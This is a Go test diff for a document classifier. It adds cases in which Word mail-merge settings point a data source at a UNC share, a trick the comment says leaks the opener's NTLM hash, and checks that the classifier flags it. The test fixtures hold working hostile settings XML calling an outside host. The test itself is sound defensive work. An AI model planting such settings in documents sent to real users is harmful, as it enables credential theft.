@@ -328,3 +328,35 @@ func TestLinkedOLEObject(t *testing.T) {
 	}
 	runClassify(t, cases)
 }
+
+// TestWordMailMergeSource: a Word document set up as a mail merge main
+// document with a data source is not kept: Word opens the source as the
+// document opens, once the user accepts running its query (the dialog's
+// default), so a workbook on a share hands over the NTLM hash. The
+// source is named in the settings part's attributes, not in a
+// relationship or a field; before, it had no finding (red team).
+func TestWordMailMergeSource(t *testing.T) {
+	const (
+		nsW   = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
+		merge = `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\192.0.2.1\s\名簿.xlsx;Mode=Read"/><w:query w:val="SELECT * FROM ` + "`" + `Sheet1$` + "`" + `"/></w:mailMerge>`
+	)
+	settings := func(name, body string) zent {
+		return deflate(name, []byte(`<?xml version="1.0"?><w:settings `+nsW+`><w:zoom w:percent="100"/>`+body+`<w:rsids><w:rsidRoot w:val="00A1"/></w:rsids></w:settings>`))
+	}
+	cases := []classifyCase{
+		{name: "connection string and query to a workbook on a share", filename: "a.docx",
+			data:  docx(t, settings("word/settings.xml", merge)),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{MailMergeSource + " in word/settings.xml"}},
+		{name: "Office data source object, UTF-16", filename: "a.docx",
+			data:  docx(t, deflate("word/settings.xml", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><w:settings `+nsW+`><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:odso><w:udl w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\192.0.2.1\s\a.accdb"/></w:odso></w:mailMerge></w:settings>`))),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{MailMergeSource + " in word/settings.xml"}},
+		{name: "settings under another name, typed as settings", filename: "a.docx",
+			data: zipFile(t, contentTypes(`<Default Extension="xml" ContentType="application/xml"/>`+override("/word/document.xml", ctWordMain)+override("/word/conf.xml", ctWordSettings)),
+				rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", ""), settings("word/conf.xml", merge)),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{MailMergeSource + " in word/conf.xml"}},
+		{name: "clean, a main document type without a source", filename: "a.docx",
+			data:  docx(t, settings("word/settings.xml", `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/></w:mailMerge><w:docVars><w:docVar w:name="query" w:val="x"/></w:docVars>`)),
+			class: ClassOffice, sniffed: mimeDocx, clean: true},
+	}
+	runClassify(t, cases)
+}
